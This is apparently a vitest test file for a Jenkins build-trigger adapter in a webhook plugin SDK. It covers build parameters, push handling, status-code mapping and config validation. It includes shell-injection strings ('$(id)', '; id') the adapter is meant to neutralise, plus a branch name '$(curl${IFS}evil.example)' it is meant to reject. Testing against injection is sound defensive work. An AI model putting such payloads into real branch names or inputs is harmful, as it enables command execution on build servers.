import { pullRequestCreated, repoPushed, type EventContract, type PushedRef } from 'forgegate/sdk';
import {
  adapterConformance,
  deliverContext,
  FakeHttp,
  setUpPlugin,
  type HttpAnswer,
} from 'forgegate/sdk/testing';
import { describe, expect, it } from 'vitest';
import plugin from './index.js';

const url = 'https://ci.example.com/jenkins/';
const settings = { username: 'forgegate', api_token: '11a2b3c4', job: 'tools/parser' };
const parameters = {
  BRANCH: '${branch}',
  COMMIT: '${commit_id}',
  PR: '${pull_request_id}',
  FROM: 'forgegate',
};
const created = { status: 201, headers: { location: 'https://ci.example.com/jenkins/queue/item/7/' } };

async function deliver(contract: EventContract, config: object = {}, answer: HttpAnswer = created) {
  const http = new FakeHttp(answer);
  const { adapter } = await setUpPlugin(plugin);
  const endpoint = { url, config: { ...settings, ...config } };
  const outcome = await adapter('jenkins').deliver(deliverContext({ http, contract, endpoint }));
  return { outcome, requests: http.requests };
}

const pushOf = (...refs: Partial<PushedRef>[]): EventContract => ({
  ...repoPushed,
  example: { ...repoPushed.example, refs: refs.map((ref) => ({ ...repoPushed.example.refs[0], ...ref })) },
});

describe('the jenkins adapter', () => {
  const neutralises = ['$(id)', '`id`', '; id', '&& id'];
  const endpoint = { url, config: { ...settings, parameters } };
  it.each(adapterConformance({ plugin, adapter: 'jenkins', endpoint, http: created, neutralises }))(
    '$name',
    ({ run }) => run(),
  );

  it('starts a build with parameters, by an API token', async () => {
    const { outcome, requests } = await deliver(pullRequestCreated, { parameters });
    expect(outcome).toEqual({ outcome: 'delivered', code: 'HTTP_201', status: 201 });
    expect(requests).toEqual([
      {
        url: 'https://ci.example.com/jenkins/job/tools/job/parser/buildWithParameters',
        request: {
          headers: {
            authorization: `Basic ${Buffer.from('forgegate:11a2b3c4').toString('base64')}`,
            'content-type': 'application/x-www-form-urlencoded',
          },
          body: 'BRANCH=exponents&COMMIT=c0ffee5b2f9a4c3d8e6f1a2b3c4d5e6f7a8b9c0d&PR=7&FROM=forgegate',
        },
      },
    ]);
  });

  it('starts one build for each branch and tag of a push, and none for what was deleted', async () => {
    const push = pushOf(
      { name: 'main' },
      { name: 'v1', type: 'tag' },
      { name: 'old', new: null, deleted: true },
      { name: 'refs/notes/x', type: 'other' },
    );
    const { requests } = await deliver(push, { parameters: { REF: '${branch}|${tag}' } });
    expect(requests.map(({ request }) => request.body)).toEqual(['REF=main%7C', 'REF=%7Cv1']);
    const { outcome } = await deliver(pushOf({ new: null, deleted: true }));
    expect(outcome).toMatchObject({ outcome: 'delivered', code: 'NOTHING_TO_BUILD' });
  });

  it('finds the job of a branch of a multibranch job, and builds without parameters where there are none', async () => {
    const { requests } = await deliver(pushOf({ name: 'feature/x' }), { job: 'tools/parser/${branch}' });
    expect(requests.map((request) => request.url)).toEqual([
      'https://ci.example.com/jenkins/job/tools/job/parser/job/feature%252Fx/build',
    ]);
  });

  it('hands no branch to a job whose name a shell would run', async () => {
    const { outcome, requests } = await deliver(pushOf({ name: '$(curl${IFS}evil.example)' }), {
      parameters,
    });
    expect(outcome).toMatchObject({ outcome: 'rejected', code: 'UNSAFE_NAME' });
    expect(requests).toEqual([]);
  });

  it.each([
    [400, 'rejected'],
    [401, 'gone'],
    [403, 'gone'],
    [404, 'rejected'],
    [405, 'rejected'],
    [409, 'retry'],
    [302, 'retry'],
    [503, 'retry'],
  ])('takes %i for %s', async (status, outcome) => {
    expect((await deliver(pullRequestCreated, {}, { status })).outcome).toMatchObject({ outcome, status });
  });

  it('tells a password, which needs a crumb, from an API token, which needs none', async () => {
    const body = '<title>Error 403 No valid crumb was included in the request</title>';
    expect((await deliver(pullRequestCreated, {}, { status: 403, body })).outcome).toMatchObject({
      outcome: 'gone',
      code: 'JENKINS_CRUMB',
    });
  });

  it.each([
    [{ job: '/parser' }, /config\.job must be the full name/],
    [{ job: 'a/../b' }, /config\.job must be the full name/],
    [{ job: 'a/${title}' }, /config\.job: \$\{title\} is not known; there are event_type/],
    [{ parameters: { TITLE: '${title}' } }, /config\.parameters\.TITLE: \$\{title\}/],
  ])('refuses %j', async (config, words) => {
    const { adapter } = await setUpPlugin(plugin);
    expect(adapter('jenkins').check?.({ url, config: { ...settings, ...config } })).toMatch(words);
  });
});
